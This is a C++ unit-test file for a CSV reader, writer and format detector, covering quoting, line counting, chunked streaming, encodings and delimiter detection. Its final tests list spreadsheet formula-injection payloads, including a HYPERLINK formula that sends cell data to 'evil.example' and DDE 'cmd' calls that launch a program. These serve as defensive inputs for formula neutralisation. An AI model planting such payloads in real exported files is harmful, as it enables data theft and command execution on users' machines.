#include "core/csv.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <stdexcept>
#include <string_view>

#include "core/json.h"

namespace strata::core {
namespace {

std::string ReadFile(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

std::vector<std::vector<std::string>> FieldsOf(const std::vector<CsvRecord>& records) {
  std::vector<std::vector<std::string>> fields;
  for (const auto& record : records) fields.push_back(record.fields);
  return fields;
}

std::vector<std::size_t> LinesOf(const std::vector<CsvRecord>& records) {
  std::vector<std::size_t> lines;
  for (const auto& record : records) lines.push_back(record.line);
  return lines;
}

// The records as csv-spectrum's expectations give them: one object per row after the header.
json::array AsObjects(const std::vector<CsvRecord>& records) {
  json::array rows;
  for (std::size_t i = 1; i < records.size(); ++i) {
    json::object row;
    for (std::size_t column = 0; column < records[0].fields.size(); ++column) {
      row[records[0].fields[column]] = records[i].fields.at(column);
    }
    rows.emplace_back(std::move(row));
  }
  return rows;
}

// What a CsvReader makes of `text` fed `chunk_size` bytes at a time.
Result<std::vector<CsvRecord>> ReadInChunks(std::string_view text, std::size_t chunk_size,
                                            CsvOptions options = {}) {
  std::vector<CsvRecord> records;
  CsvReader reader(
      [&records](const CsvRecord& record) {
        records.push_back(record);
        return true;
      },
      options);
  for (std::size_t at = 0; at < text.size(); at += chunk_size) {
    if (auto fed = reader.Feed(text.substr(at, chunk_size)); !fed.ok()) return fed.error();
    EXPECT_EQ(reader.bytes_consumed(), std::min(at + chunk_size, text.size()));
  }
  if (auto finished = reader.Finish(); !finished.ok()) return finished.error();
  return records;
}

// Both readings end alike: the same records on the same lines, or the same error.
void ExpectSameReading(const Result<std::vector<CsvRecord>>& expected,
                       const Result<std::vector<CsvRecord>>& actual) {
  ASSERT_EQ(actual.ok(), expected.ok()) << (actual.ok() ? expected : actual).error().message;
  if (expected.ok()) {
    EXPECT_EQ(FieldsOf(*actual), FieldsOf(*expected));
    EXPECT_EQ(LinesOf(*actual), LinesOf(*expected));
    return;
  }
  EXPECT_EQ(actual.error().code, expected.error().code);
  EXPECT_EQ(actual.error().message, expected.error().message);
  ASSERT_EQ(actual.error().fields.size(), 1U);
  EXPECT_EQ(actual.error().fields[0].field, expected.error().fields.at(0).field);
  EXPECT_EQ(actual.error().fields[0].message, expected.error().fields.at(0).message);
}

// Reads `text` whole, one byte at a time, and split in two at every place: all alike.
void ExpectSameReadingHoweverSplit(std::string_view text, CsvOptions options = {}) {
  SCOPED_TRACE(text);
  const auto whole = ReadCsv(text, options);
  ExpectSameReading(whole, ReadInChunks(text, 1, options));
  for (std::size_t split = 0; split <= text.size(); ++split) {
    SCOPED_TRACE(split);
    std::vector<CsvRecord> records;
    CsvReader reader(
        [&records](const CsvRecord& record) {
          records.push_back(record);
          return true;
        },
        options);
    Status status = reader.Feed(text.substr(0, split));
    if (status.ok()) status = reader.Feed(text.substr(split));
    if (status.ok()) status = reader.Finish();
    if (status.ok()) {
      ExpectSameReading(whole, records);
    } else {
      ExpectSameReading(whole, status.error());
    }
  }
}

// Every case of csv-spectrum parses to its expected JSON, except one that RFC 4180 forbids.
TEST(ReadCsvTest, PassesCsvSpectrum) {
  const std::filesystem::path root = std::filesystem::path(STRATA_CSV_DATA) / "csv-spectrum";
  int cases = 0;
  for (const auto& entry : std::filesystem::directory_iterator(root / "csvs")) {
    const std::string name = entry.path().stem().string();
    SCOPED_TRACE(name);
    auto records = ReadCsv(ReadFile(entry.path()));
    ++cases;
    if (name == "location_coordinates") {
      // Its unquoted field holds quotes (37°36'37.8"N), which RFC 4180 does not allow and a
      // strict reader refuses; csv-spectrum expects the lenient reading.
      ASSERT_FALSE(records.ok());
      EXPECT_EQ(records.error().fields.at(0).field, "2");
      continue;
    }
    ASSERT_TRUE(records.ok()) << records.error().message;
    const json::value expected = json::parse(ReadFile(root / "json" / (name + ".json")));
    EXPECT_EQ(json::value(AsObjects(*records)), expected);
  }
  EXPECT_EQ(cases, 12);
}

// The same suite through the streaming reader fed one byte at a time, and in two pieces split
// at every place: the same records on the same lines, and the same error for the case refused.
TEST(CsvReaderTest, PassesCsvSpectrumHoweverTheTextIsSplit) {
  const std::filesystem::path root = std::filesystem::path(STRATA_CSV_DATA) / "csv-spectrum";
  int cases = 0;
  for (const auto& entry : std::filesystem::directory_iterator(root / "csvs")) {
    const std::string name = entry.path().stem().string();
    SCOPED_TRACE(name);
    const std::string text = ReadFile(entry.path());
    auto records = ReadInChunks(text, 1);
    ++cases;
    if (name == "location_coordinates") {
      ASSERT_FALSE(records.ok());
      EXPECT_EQ(records.error().fields.at(0).field, "2");
    } else {
      ASSERT_TRUE(records.ok()) << records.error().message;
      const json::value expected = json::parse(ReadFile(root / "json" / (name + ".json")));
      EXPECT_EQ(json::value(AsObjects(*records)), expected);
    }
    ExpectSameReadingHoweverSplit(text);
  }
  EXPECT_EQ(cases, 12);
}

TEST(ReadCsvTest, RecordsKnowTheLineTheyStartOn) {
  auto records = ReadCsv("a,b\n\n\"two\nlines\",x\r\n\r\nlast,\"\"\n\nend");
  ASSERT_TRUE(records.ok()) << records.error().message;
  EXPECT_EQ(FieldsOf(*records), (std::vector<std::vector<std::string>>{
                                    {"a", "b"}, {"two\nlines", "x"}, {"last", ""}, {"end"}}));
  EXPECT_EQ(LinesOf(*records), (std::vector<std::size_t>{1, 3, 6, 8}));
}

TEST(ReadCsvTest, ABlankLineInsideAQuotedFieldIsPartOfIt) {
  auto records = ReadCsv("\"a\n\nb\",c\nd,e\n");
  ASSERT_TRUE(records.ok()) << records.error().message;
  EXPECT_EQ(FieldsOf(*records),
            (std::vector<std::vector<std::string>>{{"a\n\nb", "c"}, {"d", "e"}}));
  EXPECT_EQ(LinesOf(*records), (std::vector<std::size_t>{1, 4}));
}

TEST(ReadCsvTest, ACarriageReturnAloneEndsALine) {
  auto records = ReadCsv("a,b\rc,d\r");
  ASSERT_TRUE(records.ok()) << records.error().message;
  EXPECT_EQ(FieldsOf(*records), (std::vector<std::vector<std::string>>{{"a", "b"}, {"c", "d"}}));
  EXPECT_EQ(LinesOf(*records), (std::vector<std::size_t>{1, 2}));
}

TEST(ReadCsvTest, SkipsAByteOrderMarkAndKeepsSpaces) {
  auto records = ReadCsv("\xEF\xBB\xBFname, city \n  Acme ,\" Oslo \"\n");
  ASSERT_TRUE(records.ok()) << records.error().message;
  EXPECT_EQ(FieldsOf(*records),
            (std::vector<std::vector<std::string>>{{"name", " city "}, {"  Acme ", " Oslo "}}));
}

TEST(ReadCsvTest, EmptyFieldsAndEmptyTexts) {
  auto commas = ReadCsv(",,\n");
  ASSERT_TRUE(commas.ok());
  EXPECT_EQ(FieldsOf(*commas), (std::vector<std::vector<std::string>>{{"", "", ""}}));
  for (const char* nothing : {"", "\n", "\r\n\r\n", "\xEF\xBB\xBF"}) {
    auto records = ReadCsv(nothing);
    ASSERT_TRUE(records.ok()) << records.error().message;
    EXPECT_TRUE(records->empty());
  }
}

TEST(ReadCsvTest, FormulaTextIsReadAsText) {
  auto records = ReadCsv("=1+1,\"=HYPERLINK(\"\"http://x\"\")\",@SUM(A1)\n");
  ASSERT_TRUE(records.ok()) << records.error().message;
  EXPECT_EQ(
      FieldsOf(*records),
      (std::vector<std::vector<std::string>>{{"=1+1", "=HYPERLINK(\"http://x\")", "@SUM(A1)"}}));
}

TEST(ReadCsvTest, AQuoteOutOfPlaceNamesItsLine) {
  for (const char* text : {"a,b\nc,d\"e\n", "a,b\n\"c\"d,e\n", "a,b\n\"c\" ,d\n"}) {
    SCOPED_TRACE(text);
    auto records = ReadCsv(text);
    ASSERT_FALSE(records.ok());
    EXPECT_EQ(records.error().code, Errc::kInvalidArgument);
    EXPECT_EQ(records.error().message.rfind("line 2 ", 0), 0U) << records.error().message;
    ASSERT_EQ(records.error().fields.size(), 1U);
    EXPECT_EQ(records.error().fields[0].field, "2");
  }
}

TEST(ReadCsvTest, AQuotedFieldNeverClosedNamesTheLineItStartsOn) {
  auto records = ReadCsv("a,b\n\n\"open,\nmore\nstill");
  ASSERT_FALSE(records.ok());
  EXPECT_EQ(records.error().fields.at(0).field, "3");
  EXPECT_NE(records.error().message.find("never closed"), std::string::npos);
}

TEST(ReadCsvTest, TextThatIsNotUtf8IsRefusedWithItsLine) {
  for (const std::string& bad :
       std::vector<std::string>{"\xff", "\xC0\xAF", "\xED\xA0\x80", "\xE2\x82", "\xF4\x90\x80\x80",
                                std::string("a\0b", 3)}) {
    auto records = ReadCsv("name\nok\n\"x\ny" + bad + "\"\n");
    ASSERT_FALSE(records.ok());
    EXPECT_EQ(records.error().code, Errc::kInvalidArgument);
    EXPECT_EQ(records.error().fields.at(0).field, "4") << records.error().message;
  }
  // Valid multi-byte text passes: two, three and four bytes.
  auto good = ReadCsv("\xC3\xA9,\xE2\x82\xAC,\xF0\x9F\x98\x80\n");
  ASSERT_TRUE(good.ok());
  EXPECT_EQ(good->at(0).fields.at(2), "\xF0\x9F\x98\x80");
}

TEST(ReadCsvTest, ReadsManyRecords) {
  std::string text = "company,amount\r\n";
  for (int i = 0; i < 50000; ++i) text += "\"Company " + std::to_string(i) + ", Inc\",12.50\r\n";
  auto records = ReadCsv(text);
  ASSERT_TRUE(records.ok());
  ASSERT_EQ(records->size(), 50001U);
  EXPECT_EQ(records->back().line, 50001U);
  EXPECT_EQ(records->back().fields.at(0), "Company 49999, Inc");
}

// Line breaks, quoted fields over several lines, byte-order marks, multi-byte characters and
// every error, split at every place.
TEST(CsvReaderTest, ReadsAlikeHoweverTheTextIsSplit) {
  for (const std::string& text : std::vector<std::string>{
           "a,b\n\n\"two\nlines\",x\r\n\r\nlast,\"\"\n\nend",
           "\"a\n\nb\",c\r\nd,e\r\n",
           "a,b\rc,d\r",
           "\r\r\n\n\"\r\",\"\r\n\"\r\"\"\"\r",
           "\xEF\xBB\xBFname,\xC3\xA9\xE2\x82\xAC\xF0\x9F\x98\x80\r\n\xEF\xBB\xBF,x\n",
           "\xEF\xBB\xBF",
           "\xEF\xBB",
           "",
           "a,b\nc,d\"e\nf\n",
           "a,b\n\"c\" ,d\n",
           "a,b\n\n\"open,\nmore\nstill",
           "name\nok\n\"x\ny\xE2\x82\"\nz\n",
           std::string("a\r\nb\0c\r\n", 8),
       }) {
    ExpectSameReadingHoweverSplit(text);
  }
}

TEST(CsvReaderTest, LinesAreCountedAcrossChunks) {
  // A CRLF split between chunks is one line break; a CR alone at a chunk's end is one too.
  std::vector<CsvRecord> records;
  CsvReader reader([&records](const CsvRecord& record) {
    records.push_back(record);
    return true;
  });
  for (const char* chunk : {"id,note\r", "\n1,\"multi\r", "\nline\r", "\n\"\r", "\n\r", "2,x\r",
                            "3,\"", "y\"\r", "\n"}) {
    ASSERT_TRUE(reader.Feed(chunk).ok()) << chunk;
  }
  ASSERT_TRUE(reader.Finish().ok());
  EXPECT_EQ(FieldsOf(records),
            (std::vector<std::vector<std::string>>{
                {"id", "note"}, {"1", "multi\r\nline\r\n"}, {"2", "x"}, {"3", "y"}}));
  // Line 5 is the blank "\r" before "2,x".
  EXPECT_EQ(LinesOf(records), (std::vector<std::size_t>{1, 2, 6, 7}));
  ExpectSameReading(ReadCsv("id,note\r\n1,\"multi\r\nline\r\n\"\r\n\r2,x\r3,\"y\"\r\n"), records);
}

TEST(CsvReaderTest, TheHandlerCanStopReading) {
  const std::string text = "a\nb\n\"c\nc\"\nd\n";
  std::vector<std::string> seen;
  CsvReader reader([&seen](const CsvRecord& record) {
    seen.push_back(record.fields.at(0));
    return seen.size() < 3;
  });
  ASSERT_TRUE(reader.Feed(text).ok());
  EXPECT_TRUE(reader.stopped());
  // Reading stopped at the end of the third record's last line.
  EXPECT_EQ(reader.bytes_consumed(), text.find("d\n"));
  ASSERT_TRUE(reader.Feed("e\n").ok());
  ASSERT_TRUE(reader.Finish().ok());
  EXPECT_EQ(seen, (std::vector<std::string>{"a", "b", "c\nc"}));
}

TEST(CsvReaderTest, TheHandlerCanStopAtTheLastRecord) {
  int seen = 0;
  CsvReader reader([&seen](const CsvRecord& /*record*/) {
    ++seen;
    return false;
  });
  ASSERT_TRUE(reader.Feed("only").ok());
  ASSERT_TRUE(reader.Finish().ok());
  EXPECT_EQ(seen, 1);
  EXPECT_TRUE(reader.stopped());
}

TEST(CsvReaderTest, AnErrorStopsReadingAndStays) {
  int seen = 0;
  CsvReader reader([&seen](const CsvRecord& /*record*/) {
    ++seen;
    return true;
  });
  auto fed = reader.Feed("a\nb\"\nc\n");
  ASSERT_FALSE(fed.ok());
  EXPECT_EQ(fed.error().message.rfind("line 2 has a quote out of place", 0), 0U);
  EXPECT_EQ(seen, 1);
  EXPECT_FALSE(reader.Feed("d\n").ok());
  auto finished = reader.Finish();
  ASSERT_FALSE(finished.ok());
  EXPECT_EQ(finished.error().fields.at(0).field, "2");
  EXPECT_EQ(seen, 1);
}

TEST(CsvReaderTest, TheHandlerMayTakeTheFields) {
  std::vector<std::vector<std::string>> taken;
  CsvReader reader([&taken](CsvRecord& record) {
    taken.push_back(std::move(record.fields));
    return true;
  });
  ASSERT_TRUE(reader.Feed("a,b\nc\n").ok());
  ASSERT_TRUE(reader.Finish().ok());
  EXPECT_EQ(taken, (std::vector<std::vector<std::string>>{{"a", "b"}, {"c"}}));
}

TEST(CsvReaderTest, OtherDelimiters) {
  for (const char delimiter : {';', '\t', '|'}) {
    std::string text = "name;city,country\n\"a;b\";\"x\ny\"\n";
    std::replace(text.begin(), text.end(), ';', delimiter);
    SCOPED_TRACE(text);
    auto records = ReadCsv(text, {.delimiter = delimiter});
    ASSERT_TRUE(records.ok()) << records.error().message;
    EXPECT_EQ(FieldsOf(*records),
              (std::vector<std::vector<std::string>>{
                  {"name", "city,country"}, {std::string("a") + delimiter + "b", "x\ny"}}));
    ExpectSameReadingHoweverSplit(text, {.delimiter = delimiter});
  }
  EXPECT_THROW(CsvReader([](const CsvRecord&) { return true; }, {.delimiter = '"'}),
               std::invalid_argument);
  EXPECT_THROW(CsvReader([](const CsvRecord&) { return true; }, {.delimiter = '\n'}),
               std::invalid_argument);
}

// Several megabytes in 64 KB chunks, as a file is read: the handler sees every record with its
// line, and nothing is kept (the handler only counts).
TEST(CsvReaderTest, ReadsAnImportInChunks) {
  constexpr int kRecords = 100000;
  std::size_t count = 0;
  std::size_t last_line = 0;
  std::string last_company;
  CsvReader reader([&](const CsvRecord& record) {
    ++count;
    last_line = record.line;
    last_company = record.fields.at(0);
    return record.fields.size() == 4;
  });
  std::string chunk;
  std::size_t total = 0;
  const auto feed = [&](bool last) {
    if (!last && chunk.size() < std::size_t{64} * 1024) return;
    ASSERT_TRUE(reader.Feed(chunk).ok());
    total += chunk.size();
    chunk.clear();
  };
  chunk += "company,email,notes,amount\r\n";
  for (int i = 0; i < kRecords; ++i) {
    chunk +=
        "\"Company " + std::to_string(i) + ", Inc\",buyer" + std::to_string(i) + "@example.com,";
    // Every hundredth record has notes over two lines.
    chunk += i % 100 == 0 ? "\"first line\r\nsecond, \"\"quoted\"\"\"" : "M\xC3\xBCller";
    chunk += ",12.50\r\n";
    feed(false);
  }
  feed(true);
  ASSERT_TRUE(reader.Finish().ok());
  EXPECT_GT(total, 5U * 1024 * 1024);
  EXPECT_EQ(reader.bytes_consumed(), total);
  EXPECT_EQ(count, kRecords + 1U);
  EXPECT_EQ(last_line, kRecords + 1U + kRecords / 100);
  EXPECT_EQ(last_company, "Company 99999, Inc");
}

TEST(DetectDelimiterTest, TheDelimiterThatSplitsEveryLineAlike) {
  EXPECT_EQ(DetectDelimiter("name,city\nAcme,Oslo\nBeta,Rome\n"), ',');
  EXPECT_EQ(DetectDelimiter("name;price\nAcme;1,50\nBeta;12,75\n"), ';');
  EXPECT_EQ(DetectDelimiter("name\tcity, country\nAcme\tOslo, NO\nBeta\tRome\n"), '\t');
  EXPECT_EQ(DetectDelimiter("id|name|city\n1|Acme, Inc|Oslo\n2|Beta; Gamma|Rome\n"), '|');
  // A header alone is enough.
  EXPECT_EQ(DetectDelimiter("email;first name;last name"), ';');
  // With a byte-order mark and CRLF.
  EXPECT_EQ(DetectDelimiter("\xEF\xBB\xBFname;city\r\nM\xC3\xBCller;K\xC3\xB6ln\r\n"), ';');
}

TEST(DetectDelimiterTest, DelimitersInsideQuotesDoNotCount) {
  // Three commas on every line, all inside quotes; one semicolon outside.
  EXPECT_EQ(DetectDelimiter("\"a,b,c\";d\n\"e,f,g\";h\n\"i,j,k\";l\n"), ';');
  // A quoted field over two lines is one record.
  EXPECT_EQ(DetectDelimiter("name;note\nAcme;\"one,\ntwo,three\"\nBeta;x\n"), ';');
  EXPECT_EQ(DetectDelimiter("name,note\n\"Acme; Inc\",\"a;b\"\n\"Beta\",\"\"\"c;d\"\"\"\n"), ',');
}

TEST(DetectDelimiterTest, CommaWhenNothingConvinces) {
  EXPECT_EQ(DetectDelimiter(""), ',');
  EXPECT_EQ(DetectDelimiter("email\na@example.com\nb@example.com\n"), ',');
  // Semicolons on some lines only.
  EXPECT_EQ(DetectDelimiter("a;b\nc\nd\ne;f;g\n"), ',');
  // Both split alike into as many fields: the comma is preferred.
  EXPECT_EQ(DetectDelimiter("a,b;c\nd,e;f\n"), ',');
  // A line the head cuts off does not count against the others.
  EXPECT_EQ(DetectDelimiter("a;b\nc;d\ne;f\ng;h;i;j,k,l"), ';');
}

TEST(DetectCsvFormatTest, Windows1252WithSemicolons) {
  // "Name;Stadt / Müller;Café" as a German Excel saves it.
  const std::string bytes = "Name;Stadt\r\nM\xFCller;Caf\xE9\r\n";
  const CsvFormat format = DetectCsvFormat(bytes);
  EXPECT_EQ(format.encoding, TextEncoding::kWindows1252);
  EXPECT_FALSE(format.has_bom);
  EXPECT_EQ(format.delimiter, ';');
}

// Reads `bytes` as an import does: detect the format from the head, then transcode and read in
// chunks of `chunk_size`.
Result<std::vector<CsvRecord>> ImportBytes(std::string_view bytes, std::size_t chunk_size) {
  const CsvFormat format = DetectCsvFormat(bytes.substr(0, kDetectionHeadSize));
  Utf8Transcoder transcoder(format.encoding);
  std::vector<CsvRecord> records;
  CsvReader reader(
      [&records](const CsvRecord& record) {
        records.push_back(record);
        return true;
      },
      {.delimiter = format.delimiter});
  std::string utf8;
  for (std::size_t at = 0; at <= bytes.size(); at += chunk_size) {
    utf8.clear();
    const bool last = at + chunk_size > bytes.size();
    Status status = transcoder.Feed(bytes.substr(at, chunk_size), utf8);
    if (status.ok() && last) status = transcoder.Finish(utf8);
    if (status.ok()) status = reader.Feed(utf8);
    if (status.ok() && last) status = reader.Finish();
    if (!status.ok()) return status.error();
  }
  return records;
}

TEST(DetectCsvFormatTest, ImportsWhateverTheEncoding) {
  const std::vector<std::vector<std::string>> expected{
      {"Name", "Stadt"}, {"M\xC3\xBCller", "Caf\xC3\xA9"}, {"\xE2\x82\xAC 5", "two\nlines"}};
  // Windows-1252 with semicolons.
  auto legacy = ImportBytes("Name;Stadt\r\nM\xFCller;Caf\xE9\r\n\x80 5;\"two\nlines\"\r\n", 3);
  ASSERT_TRUE(legacy.ok()) << legacy.error().message;
  EXPECT_EQ(FieldsOf(*legacy), expected);
  EXPECT_EQ(LinesOf(*legacy), (std::vector<std::size_t>{1, 2, 3}));
  // UTF-16LE with a byte-order mark and tabs, as Excel saves "Unicode text"; and UTF-16BE
  // without a mark, each fed in odd-sized chunks that split characters.
  const std::u16string text =
      u"\uFEFFName\tStadt\r\nM\u00FCller\tCaf\u00E9\r\n\u20AC 5\t\"two\nlines\"";
  for (const bool little : {true, false}) {
    std::string bytes;
    for (const char16_t unit : std::u16string_view(text).substr(little ? 0 : 1)) {
      const auto low = static_cast<char>(unit & 0xFF);
      const auto high = static_cast<char>(unit >> 8);
      bytes += little ? std::string{low, high} : std::string{high, low};
    }
    const CsvFormat format = DetectCsvFormat(bytes);
    EXPECT_EQ(format.encoding, little ? TextEncoding::kUtf16Le : TextEncoding::kUtf16Be);
    EXPECT_EQ(format.has_bom, little);
    EXPECT_EQ(format.delimiter, '\t');
    auto records = ImportBytes(bytes, 5);
    ASSERT_TRUE(records.ok()) << records.error().message;
    EXPECT_EQ(FieldsOf(*records), expected);
    EXPECT_EQ(LinesOf(*records), (std::vector<std::size_t>{1, 2, 3}));
  }
  // UTF-8 with a byte-order mark.
  auto utf8 = ImportBytes(
      "\xEF\xBB\xBFName|Stadt\nM\xC3\xBCller|Caf\xC3\xA9\n\xE2\x82\xAC 5|\"two\nlines\"\n", 2);
  ASSERT_TRUE(utf8.ok()) << utf8.error().message;
  EXPECT_EQ(FieldsOf(*utf8), expected);
}

TEST(DetectCsvFormatTest, BadBytesFarDownAUtf8FileAreNamedByTheirLine) {
  // A valid head far longer than the detectors read, then one Windows-1252 byte.
  std::string bytes = "name,city\n";
  std::size_t line = 1;
  while (bytes.size() < 2 * kDetectionHeadSize) {
    bytes += "M\xC3\xBCller,K\xC3\xB6ln\n";
    ++line;
  }
  bytes += "M\xFCller,K\xF6ln\nlast,one\n";
  ++line;
  const CsvFormat format = DetectCsvFormat(std::string_view(bytes).substr(0, kDetectionHeadSize));
  EXPECT_EQ(format.encoding, TextEncoding::kUtf8);
  auto records = ImportBytes(bytes, 4096);
  ASSERT_FALSE(records.ok());
  EXPECT_EQ(records.error().fields.at(0).field, std::to_string(line));
  EXPECT_NE(records.error().message.find("not valid UTF-8"), std::string::npos);
}

TEST(DetectCsvFormatTest, UndefinedWindows1252BytesAreNamedByTheirLine) {
  auto records = ImportBytes("Name;Stadt\r\nM\xFCller;Caf\xE9\r\nx;\x81\r\n", 4);
  ASSERT_FALSE(records.ok());
  EXPECT_EQ(records.error().code, Errc::kInvalidArgument);
  EXPECT_EQ(records.error().fields.at(0).field, "3");
  EXPECT_NE(records.error().message.find("0x81"), std::string::npos) << records.error().message;
}

TEST(CsvWriterTest, QuotesOnlyWhatNeedsIt) {
  CsvWriter csv;
  csv.Text("plain").Text("a,b").Text("say \"hi\"").Text("two\nlines").Number(-42).EndRow();
  csv.Text("").Text("x").EndRow();
  EXPECT_EQ(csv.str(), "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",-42\r\n,x\r\n");
}

// The formula-injection forms of the OWASP CSV injection page and PayloadsAllTheThings.
TEST(CsvWriterTest, FormulaCellsAreNeutralised) {
  for (const char* payload :
       {"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
        R"(=HYPERLINK("http://evil.example?x="&A1,"Error: click"))", "=cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "+thespanishinquisition(cmd|'/c calc.exe'!A)"}) {
    const std::string cell = NeutraliseFormula(payload);
    EXPECT_EQ(cell, std::string("'") + payload);
    CsvWriter csv;
    csv.Text(payload).EndRow();
    const std::string& row = csv.str();
    // Whether quoted or not, the first character a spreadsheet reads is the apostrophe.
    const std::size_t first = row.front() == '"' ? 1 : 0;
    EXPECT_EQ(row[first], '\'') << row;
  }
}

TEST(CsvWriterTest, OrdinaryTextAndNumbersAreLeftAlone) {
  EXPECT_EQ(NeutraliseFormula("Acme Ltd"), "Acme Ltd");
  EXPECT_EQ(NeutraliseFormula("a=b"), "a=b");
  EXPECT_EQ(NeutraliseFormula(""), "");
  CsvWriter csv;
  csv.Number(-5).EndRow();
  EXPECT_EQ(csv.str(), "-5\r\n");
}

}  // namespace
}  // namespace strata::core
